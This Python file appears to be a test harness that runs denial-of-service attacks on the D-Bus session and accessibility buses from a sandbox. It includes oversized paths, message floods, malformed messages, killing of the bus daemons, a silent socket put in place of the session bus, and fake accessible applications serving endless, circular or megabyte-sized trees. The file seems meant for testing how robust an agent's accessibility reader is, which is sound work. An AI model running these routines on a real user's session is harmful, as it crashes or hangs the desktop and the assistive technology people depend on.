"""Attacks on the session and accessibility buses, run inside a sandbox as the agent's user.

python3 bus_attacks.py NAME [NUMBER...]; it needs nothing but the standard library.
`ATTACKS` at the end lists the names.
"""

import os
import signal
import socket
import struct
import sys
import time

BUS = "org.freedesktop.DBus"
ROOT = "/org/a11y/atspi/accessible/root"
PREFIX = "org.a11y.atspi."


def text(value):
    data = value.encode()
    return struct.pack("<I", len(data)) + data + b"\0"


def aligned(data, to):
    return data + bytes(-len(data) % to)


def field(code, kind, value):
    body = bytes([len(value)]) + value.encode() + b"\0" if kind == "g" else text(value)
    return bytes([code, 1]) + kind.encode() + b"\0" + body


def message(kind, serial, fields, body=b""):
    """Return a message; fields are (code, type, value)."""
    head = b""
    for code, type_, value in fields:
        head = aligned(head, 8)
        if type_ == "u":
            head += bytes([code, 1]) + b"u\0" + struct.pack("<I", value)
        else:
            head += field(code, type_, value)
    start = struct.pack("<BBBBIII", ord("l"), kind, 0, 1, len(body), serial, len(head))
    return aligned(start + head, 8) + body


class Bus:
    """A connection to a bus."""

    def __init__(self, address):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        values = dict(pair.split("=", 1) for pair in address.partition(":")[2].split(","))
        self.sock.connect(values["path"] if "path" in values else "\0" + values["abstract"])
        self.sock.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\nBEGIN\r\n")
        self.data = b""
        while b"\r\n" not in self.data:
            self.data += self.sock.recv(4096)
        self.data = self.data.partition(b"\r\n")[2]
        self.serial = 0
        reply = self.call(BUS, "/org/freedesktop/DBus", BUS, "Hello")
        self.name = read_text(reply["body"], 0)[0]

    def send(self, kind, fields, body=b""):
        self.serial += 1
        self.sock.sendall(message(kind, self.serial, fields, body))
        return self.serial

    def call(self, destination, path, interface, member, signature="", body=b""):
        fields = [(1, "o", path), (6, "s", destination), (2, "s", interface), (3, "s", member)]
        serial = self.send(1, fields + ([(8, "g", signature)] if signature else []), body)
        while True:
            got = self.next()
            if got.get("reply") == serial:
                return got

    def emit(self, path, interface, member, signature="", body=b"", destination=""):
        fields = [(1, "o", path), (2, "s", interface), (3, "s", member)]
        fields += [(8, "g", signature)] if signature else []
        self.send(4, fields + ([(6, "s", destination)] if destination else []), body)

    def answer(self, call, signature, body):
        self.send(2, [(5, "u", call["serial"]), (6, "s", call["sender"]), (8, "g", signature)], body)

    def next(self):
        """Return the next message as a dict."""
        while len(self.data) < 16 or len(self.data) < self._size():
            part = self.sock.recv(1 << 16)
            if not part:
                raise SystemExit("the bus hung up")
            self.data += part
        size = self._size()
        packet, self.data = self.data[:size], self.data[size:]
        body, serial, length = struct.unpack_from("<III", packet, 4)
        got = {"kind": packet[1], "serial": serial, "body": packet[size - body :]}
        names = {1: "path", 2: "interface", 3: "member", 5: "reply", 7: "sender", 8: "signature"}
        at = 16
        while at < 16 + length:
            at += -at % 8
            code, type_ = packet[at], packet[at + 2 : at + 3]
            if type_ == b"u":
                value, at = struct.unpack_from("<I", packet, at + 4)[0], at + 8
            elif type_ == b"g":
                value, at = packet[at + 5 : at + 5 + packet[at + 4]].decode(), at + 6 + packet[at + 4]
            else:
                value, at = read_text(packet, at + 4)
            got[names.get(code, code)] = value
        return got

    def _size(self):
        body, _, fields = struct.unpack_from("<III", self.data, 4)
        return 16 + (fields + 7) // 8 * 8 + body

    def names(self):
        body = self.call(BUS, "/org/freedesktop/DBus", BUS, "ListNames")["body"]
        at, names = 4, []
        while at < len(body):
            at += -at % 4
            name, at = read_text(body, at)
            names.append(name)
        return [name for name in names if name.startswith(":") and name != self.name]


def read_text(data, at):
    (length,) = struct.unpack_from("<I", data, at)
    return data[at + 4 : at + 4 + length].decode(errors="replace"), at + 5 + length


def session():
    return Bus(os.environ.get("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/1000/bus"))


def accessibility():
    reply = session().call("org.a11y.Bus", "/org/a11y/bus", "org.a11y.Bus", "GetAddress")
    return Bus(read_text(reply["body"], 0)[0])


def everybody(bus, path, interface, member, signature="", body=b""):
    bus.emit(path, interface, member, signature, body)
    for name in bus.names():
        bus.emit(path, interface, member, signature, body, destination=name)


# -- attacks on the buses -------------------------------------------------------------------------------------------


def long_path(length=70_000):
    """Announce something at an object path that is longer than any sane header."""
    for bus in (accessibility(), session()):
        everybody(bus, "/" + "a" * int(length), PREFIX + "Event.Object", "ChildrenChanged")


def big_signals(count=240, size=16 << 20):
    """Announce things of 16 MB each."""
    bus = accessibility()
    body = struct.pack("<I", int(size)) + bytes(int(size))
    for _ in range(int(count)):
        bus.emit("/a", PREFIX + "Event.Object", "ChildrenChanged", "ay", body)


def many_signals(seconds=5.0):
    """Announce small things without a pause."""
    bus = accessibility()
    end = time.time() + seconds
    while time.time() < end:
        for _ in range(200):
            bus.emit("/a", PREFIX + "Event.Object", "ChildrenChanged", "s", text("x"))


def odd_messages():
    """Send what a bus passes on and a reader may not expect: deep nests, odd types, replies to nothing."""
    for bus in (accessibility(), session()):
        names = bus.names()
        deep = b"\1v\0" * 31 + b"\1y\0\7"
        for name in names:
            bus.emit("/a", PREFIX + "Event.Object", "StateChanged", "v", deep, destination=name)
            bus.emit("/a", PREFIX + "Event.Object", "StateChanged", "sii", text("focused") + b"\0\0" + bytes(8), name)
            bus.send(2, [(5, "u", 7), (6, "s", name)])
            bus.send(3, [(5, "u", 8), (6, "s", name), (4, "s", "a.b")])
            bus.send(1, [(1, "o", "/a"), (3, "s", "Ping"), (6, "s", name)])


def kill_buses(which="both"):
    """End the buses, as any program of this user may."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline") as file:
                words = file.read().split("\0")
        except OSError:
            continue
        mine = "dbus-daemon" in words[0] or "at-spi" in words[0]
        if mine and (which == "both" or ("--session" in words) == (which == "session")):
            os.kill(int(pid), signal.SIGKILL)


def false_bus():
    """Put a socket that never says a word where the session bus was."""
    path = "/run/user/1000/bus"
    os.unlink(path)
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(path)
    listener.listen(100)
    kill_buses()
    kept = []
    print("done", flush=True)
    while True:
        kept.append(listener.accept())


# -- false applications ---------------------------------------------------------------------------------------------


class Application:
    """An accessible application that lies; subclasses say how."""

    shown = (1 << 25) | (1 << 30) | (1 << 8)
    names, count = "evil", 10

    def __init__(self):
        self.bus = accessibility()

    def serve(self):
        body = aligned(text(self.bus.name), 4) + text(ROOT)
        self.bus.call(PREFIX + "Registry", ROOT, PREFIX + "Socket", "Embed", "(so)", body)
        print("registered", flush=True)
        while True:
            call = self.bus.next()
            if call["kind"] == 1:
                self.reply(call)

    def reply(self, call):
        member = call.get("member")
        if member == "Get":
            interface, at = read_text(call["body"], 0)
            wanted = read_text(call["body"], at + -at % 4)[0]
            self.bus.answer(call, "v", self.property(call["path"], wanted))
        elif member == "GetItems":
            self.bus.answer(call, "a((so)(so)(so)iiassusau)", self.items())
        elif member == "GetChildren":
            refs = b""
            for path in self.children(call["path"]):
                refs = aligned(refs, 8) + self.ref(path)
            self.bus.answer(call, "a(so)", struct.pack("<I", len(refs)) + bytes(4) + refs)
        elif member == "GetState":
            self.bus.answer(call, "au", struct.pack("<III", 8, self.shown, 0))
        elif member == "GetRole":
            self.bus.answer(call, "u", struct.pack("<I", 39))
        elif member == "GetExtents":
            self.bus.answer(call, "(iiii)", struct.pack("<iiii", 10, 10, 500, 500))
        elif member == "GetInterfaces":
            interfaces = aligned(text(PREFIX + "Accessible"), 4) + aligned(text(PREFIX + "Component"), 4)
            interfaces += text(PREFIX + "Text")
            self.bus.answer(call, "as", struct.pack("<I", len(interfaces)) + interfaces)
        elif member == "GetText":
            self.bus.answer(call, "s", text(self.text()))
        elif "sender" in call:
            self.bus.send(3, [(5, "u", call["serial"]), (6, "s", call["sender"]), (4, "s", "a.Error")])

    def property(self, path, wanted):
        if wanted in ("Name", "Description", "ToolkitName", "Version"):
            return b"\1s\0" + b"\0" + text(self.names)
        if wanted in ("CharacterCount", "ChildCount"):
            return b"\1i\0" + struct.pack("<i", 1000)
        return b"\1i\0" + struct.pack("<i", 0)

    def ref(self, path):
        return aligned(text(self.bus.name), 4) + text(path)

    def items(self):
        rows = b""
        for number in range(self.count):
            path, parent = f"/n/{number}", ROOT if number == 0 else "/n/0"
            rows = bytearray(aligned(rows, 8)) if number == 0 else rows + bytes(-len(rows) % 8)
            for each in (path, ROOT, parent):
                rows += bytes(-len(rows) % 8) + self.ref(each)
            rows += bytes(-len(rows) % 4) + struct.pack("<ii", number, self.count if number == 0 else 0)
            rows += struct.pack("<I", 0) + text(self.item_name()) + bytes(0)
            rows += bytes(-len(rows) % 4) + struct.pack("<I", 23 if number == 0 else 39)
            rows += text("") + bytes(-(len(rows) + 5) % 4)
            rows += struct.pack("<III", 8, self.shown, 0)
        return struct.pack("<I", len(rows)) + bytes(4) + bytes(rows)

    def item_name(self):
        return "node"

    def children(self, path):
        return ["/n/0"] if path == ROOT else []

    def text(self):
        return "text"


class LongName(Application):
    """A name of a megabyte on thousands of nodes."""

    def __init__(self, size=1_000_000, count=2590):
        super().__init__()
        self.names, self.count = "N" * int(size), int(count)


class LongEverything(Application):
    """No bulk; every name and text is a megabyte."""

    def __init__(self, size=1_000_000, count=500):
        super().__init__()
        self.names, self.count = "N" * int(size), int(count)

    def items(self):
        return struct.pack("<I", 0) + bytes(4)

    def children(self, path):
        return ["/n/0"] if path == ROOT else [f"/n/{n}" for n in range(1, self.count)] if path == "/n/0" else []

    def text(self):
        return self.names


class Endless(LongEverything):
    """A tree without an end: whatever is asked has children, and so do they."""

    names, width = "endless", 3

    def __init__(self, width=3):
        super().__init__(10, 1)
        self.width = int(width)

    def children(self, path):
        return ["/n/0" if path == ROOT else f"{path}/{n}" for n in range(1 if path == ROOT else self.width)]


class Circle(LongEverything):
    """A tree that bites its tail."""

    def __init__(self):
        super().__init__(10, 1)

    def children(self, path):
        return ["/n/0", "/n/1", ROOT]


class Bulk(Application):
    """More items at once than anybody wants."""

    def __init__(self, count=150_000):
        super().__init__()
        self.count = int(count)


class Silent(Application):
    """Registers, and never says a word again."""

    def reply(self, call):
        pass


class Slow(LongEverything):
    """Answers everything, each time late."""

    def __init__(self, pause=0.2):
        super().__init__(10, 300)
        self.pause = pause

    def reply(self, call):
        time.sleep(self.pause)
        super().reply(call)


class WrongTypes(Application):
    """Answers every question with a value of another type."""

    def reply(self, call):
        self.bus.answer(call, "a{sv}", struct.pack("<I", 0) + bytes(4))


def many_applications(count=300):
    """Register applications by the hundred, none of which answers."""
    kept = []
    for _ in range(int(count)):
        app = Application()
        body = aligned(text(app.bus.name), 4) + text(ROOT)
        app.bus.send(
            1, [(1, "o", ROOT), (6, "s", PREFIX + "Registry"), (2, "s", PREFIX + "Socket"), (3, "s", "Embed"),
                (8, "g", "(so)")], body,
        )  # fmt: skip
        kept.append(app)
    print("registered", flush=True)
    time.sleep(600)


def kill_session():
    """End the session bus alone."""
    kill_buses("session")


def kill_a11y():
    """End the accessibility bus alone."""
    kill_buses("a11y")


def long_name(*numbers):
    """Serve a name of a megabyte on thousands of nodes."""
    LongName(*numbers).serve()


def long_names(*numbers):
    """Serve a megabyte for every name and text, and nothing in bulk."""
    LongEverything(*numbers).serve()


def endless(*numbers):
    """Serve a tree without an end."""
    Endless(*numbers).serve()


def circle():
    """Serve a tree that bites its tail."""
    Circle().serve()


def bulk(*numbers):
    """Serve more items at once than anybody wants."""
    Bulk(*numbers).serve()


def silent():
    """Register an application that never says a word."""
    Silent().serve()


def slow(*numbers):
    """Answer everything, each time late."""
    Slow(*numbers).serve()


def wrong_types():
    """Answer every question with a value of another type."""
    WrongTypes().serve()


ATTACKS = {
    "long-path": long_path, "big-signals": big_signals, "many-signals": many_signals, "odd": odd_messages,
    "kill": kill_buses, "kill-session": kill_session, "kill-a11y": kill_a11y, "false-bus": false_bus,
    "name": long_name, "names": long_names, "endless": endless, "circle": circle, "bulk": bulk, "silent": silent,
    "slow": slow, "wrong": wrong_types, "apps": many_applications,
}  # fmt: skip

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](*map(float, sys.argv[2:]))
    print("done", flush=True)
